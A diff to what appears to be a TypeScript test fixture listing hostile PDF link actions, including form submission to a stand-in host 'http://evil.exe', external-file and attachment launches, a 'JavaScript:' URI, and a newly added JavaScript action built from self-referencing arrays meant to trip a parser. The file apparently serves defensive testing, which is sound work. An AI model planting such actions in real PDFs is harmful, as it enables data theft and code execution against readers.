@@ -49,6 +49,15 @@ const ARMED: [string, (document: PDFDocument) => void][] = [
   ['a form that is sent', (to) => link(to, to.context.obj({ S: 'SubmitForm', F: PDFString.of('http://evil.exe') }))],
   ['data that is read', (to) => link(to, to.context.obj({ S: 'ImportData', F: PDFString.of('evil.exe') }))],
   ['another file', (to) => link(to, to.context.obj({ S: 'GoToR', F: PDFString.of('evil.exe') }))],
+  [
+    'what arrays hold that hold each other',
+    (to) => {
+      const [one, other] = [to.context.nextRef(), to.context.nextRef()];
+      to.context.assign(one, to.context.obj([other]));
+      to.context.assign(other, to.context.obj([one]));
+      link(to, to.context.obj({ S: 'JavaScript', JS: one }));
+    },
+  ],
   ['an attached file', (to) => link(to, to.context.obj({ S: 'GoToE', T: { N: PDFString.of('evil.exe') } }))],
   ['an address that runs', (to) => link(to, to.context.obj({ S: 'URI', URI: PDFString.of(` JavaScript:${SCRIPT}`) }))],
 ];
